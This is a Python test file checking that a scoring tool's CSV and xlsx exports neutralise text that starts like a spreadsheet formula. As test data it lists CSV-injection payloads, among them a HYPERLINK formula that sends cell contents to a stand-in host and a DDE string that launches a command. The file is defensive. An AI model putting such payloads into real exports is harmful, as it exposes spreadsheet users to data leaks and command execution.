"""Text from the other party's ledger never becomes a formula in a file sx writes.

Finding 10 of the hardening issue: a resident's name ``=HYPERLINK(...)`` came out of
``sx reidentify`` as a live formula cell. Every CSV and xlsx goes through
``scoring.output.write_decisions``, so that is where it is neutralised.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from scoring.output import neutralise, starts_like_formula, write_decisions

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"王明")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u3000=1+1",
]
HARMLESS = ["王明", "a=b", "13912345678", "", "0537-1234567", "O'Brien"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised_and_neutralised(text: str) -> None:
    assert starts_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not starts_like_formula(text)
    assert neutralise(text) == text


def _table() -> pa.Table:
    names = HOSTILE + HARMLESS
    return pa.table(
        {
            "subject": [f"{i:032x}" for i in range(len(names))],
            "name": names,
            "points": list(range(-len(names) // 2, len(names) - len(names) // 2)),
        }
    )


def test_csv_fields_that_start_like_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
    out = write_decisions(_table(), tmp_path / "out.csv")
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == [neutralise(name) for name in HOSTILE + HARMLESS]
    for row in rows[1:]:
        assert not starts_like_formula(row[1]), row
    # numbers stay numbers: a negative count is not text and keeps its sign
    assert rows[1][2].startswith("-")


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    out = write_decisions(_table(), tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(out)["decisions"]
    values = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # shown as typed, stored as text (XML turns a lone carriage return into a line feed)
    assert values[: len(HOSTILE)] == [h.replace("\r", "\n") for h in HOSTILE]
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type != "f"
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_a_failed_write_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"old")
    with pytest.raises(pa.ArrowInvalid):
        write_decisions(pa.table({"a": pa.array([[1]], pa.list_(pa.int64()))}), target)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
